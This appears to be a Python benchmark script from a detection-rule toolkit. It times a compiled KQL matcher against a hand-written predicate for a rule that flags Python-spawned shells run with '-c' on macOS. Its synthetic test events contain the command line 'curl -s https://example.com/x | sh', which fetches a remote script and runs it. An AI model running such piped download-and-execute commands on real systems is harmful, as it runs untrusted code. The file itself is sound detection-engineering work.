"""Benchmark: the seed rule's query through rule_kit.kql.matcher vs a hand-written Python predicate.

    .venv/bin/python bench/kql_matcher.py [--events 100000] [--seed 1]

Generates ECS events as nested JSON objects (a mix of process, network, file and authentication events on
macOS/Linux/Windows; about 1% match the seed query), compiles the query once, runs both over every event, checks
they agree on every event and reports the times and the ratio (target: the matcher within 3x of the predicate).
"""

from __future__ import annotations

import argparse
import random
import sys
import time

from rule_kit.fields import catalog_for_indices
from rule_kit.kql.matcher import compile
from rule_kit.kql.nodes import STAR, AndOperation, Is, Literal, Not, OrOperation, Wildcard

SHELLS = ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish")
EXCLUDED = ("pip", "conda", "brew", "jupyter")
SEED_TREE = AndOperation(
    Is("event.category", Literal("process")),
    Is("host.os.type", Literal("macos")),
    Is("event.type", Literal("start")),
    Is("event.action", Literal("exec")),
    Is("process.parent.name", Wildcard(("python", STAR))),
    OrOperation(*(Is("process.name", Literal(shell)) for shell in SHELLS)),
    Is("process.args", Literal("-c", quoted=True)),
    Not(OrOperation(*(Is("process.command_line", Wildcard((STAR, word, STAR))) for word in EXCLUDED))),
)


# --- the hand-written predicate (Elasticsearch semantics for these fields) ----------------------------------


def _values(event: dict, *keys: str) -> list:
    """Leaf values at a nested path, arrays (also of objects) flattened, null skipped."""
    current = [event]
    for key in keys:
        nxt = []
        for obj in current:
            if type(obj) is dict:
                value = obj.get(key)
                if type(value) is list:
                    nxt.extend(value)
                elif value is not None:
                    nxt.append(value)
        current = nxt
    return [v for v in current if v is not None and type(v) is not dict]


_SHELLS = frozenset(SHELLS)


def predicate(e: dict) -> bool:
    """keyword fields: exact, case-sensitive, any array element; wildcard patterns match the whole value;
    ignore_above 1024 on keyword fields (process.command_line is a `wildcard` field: no ignore_above)."""
    if "process" not in _values(e, "event", "category"):
        return False
    if "macos" not in _values(e, "host", "os", "type"):
        return False
    if "start" not in _values(e, "event", "type"):
        return False
    if "exec" not in _values(e, "event", "action"):
        return False
    if not any(
        type(v) is str and v.startswith("python") and len(v) <= 1024 for v in _values(e, "process", "parent", "name")
    ):
        return False
    if not any(v in _SHELLS for v in _values(e, "process", "name")):
        return False
    if "-c" not in _values(e, "process", "args"):
        return False
    for v in _values(e, "process", "command_line"):
        if type(v) is str and any(word in v for word in EXCLUDED):
            return False
    return True


# --- events ---------------------------------------------------------------------------------------------------


def make_events(count: int, seed: int) -> list[dict]:
    rng = random.Random(seed)
    oses = ["macos", "linux", "windows"]
    parents = ["python3", "python3.11", "Python", "launchd", "bash", "node", "java", "sshd"]
    names = [*SHELLS, "curl", "git", "ls", "Bash", "osascript", "python3"]
    events = []
    for i in range(count):
        kind = rng.random()
        os_type = rng.choice(oses)
        event: dict = {
            "@timestamp": f"2024-06-01T12:{i % 60:02d}:{i % 60:02d}Z",
            "host": {"os": {"type": os_type, "name": os_type.title()}, "name": f"host-{i % 50}"},
            "agent": {"type": "endpoint"},
        }
        if kind < 0.985 and rng.random() < 0.6:  # network, file, authentication events
            category = rng.choice(["network", "file", "authentication"])
            event["event"] = {"category": [category], "type": ["info"], "action": "connection_attempted"}
            event["source"] = {"ip": f"10.0.{i % 256}.{i % 200}", "port": 1024 + i % 5000}
            events.append(event)
            continue
        matching = (kind >= 0.985 and os_type == "macos") or kind >= 0.9975
        name = rng.choice(SHELLS) if matching or rng.random() < 0.3 else rng.choice(names)
        parent = "python3.11" if matching else rng.choice(parents)
        args = [f"/bin/{name}", "-c", "curl -s https://example.com/x | sh"] if rng.random() < 0.7 else [name, "-l"]
        line = " ".join(args)
        if rng.random() < 0.1:
            line += " && pip install requests"
        event["event"] = {
            "category": ["process"],
            "type": ["start"] if matching or rng.random() < 0.7 else ["end"],
            "action": "exec" if matching or rng.random() < 0.8 else "fork",
        }
        event["process"] = {
            "name": name,
            "pid": 1000 + i,
            "args": args,
            "command_line": line,
            "executable": f"/bin/{name}",
            "parent": {"name": parent, "pid": 500 + i % 100, "executable": f"/usr/bin/{parent}"},
        }
        events.append(event)
    return events


def timed(fn, events: list[dict]) -> tuple[float, list[bool]]:
    start = time.perf_counter()
    results = [fn(event) for event in events]
    return time.perf_counter() - start, results


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--repeat", type=int, default=3, help="best of N runs")
    args = parser.parse_args(argv)

    events = make_events(args.events, args.seed)
    start = time.perf_counter()
    matcher = compile(SEED_TREE, catalog_for_indices(["logs-endpoint.events.process-*"]))
    compile_time = time.perf_counter() - start

    best_matcher = best_predicate = float("inf")
    for _ in range(args.repeat):
        t_pred, expected = timed(predicate, events)
        t_match, got = timed(matcher, events)
        best_predicate, best_matcher = min(best_predicate, t_pred), min(best_matcher, t_match)
    disagree = [i for i, (a, b) in enumerate(zip(expected, got, strict=True)) if a != b]
    matches = sum(expected)
    ratio = best_matcher / best_predicate
    print(f"events:               {len(events):,} ({matches:,} matching, {matches / len(events):.2%})")
    print(f"compile:              {compile_time * 1000:.2f} ms")
    print(f"hand-written:         {best_predicate:.3f} s ({best_predicate / len(events) * 1e6:.2f} µs/event)")
    print(f"compiled matcher:     {best_matcher:.3f} s ({best_matcher / len(events) * 1e6:.2f} µs/event)")
    print(f"ratio matcher/hand:   {ratio:.2f}x (target <= 3x)")
    print(f"disagreements:        {len(disagree)}")
    if disagree:
        print(f"first disagreement:   event {disagree[0]}: {events[disagree[0]]}")
    return 1 if disagree else 0


if __name__ == "__main__":
    sys.exit(main())
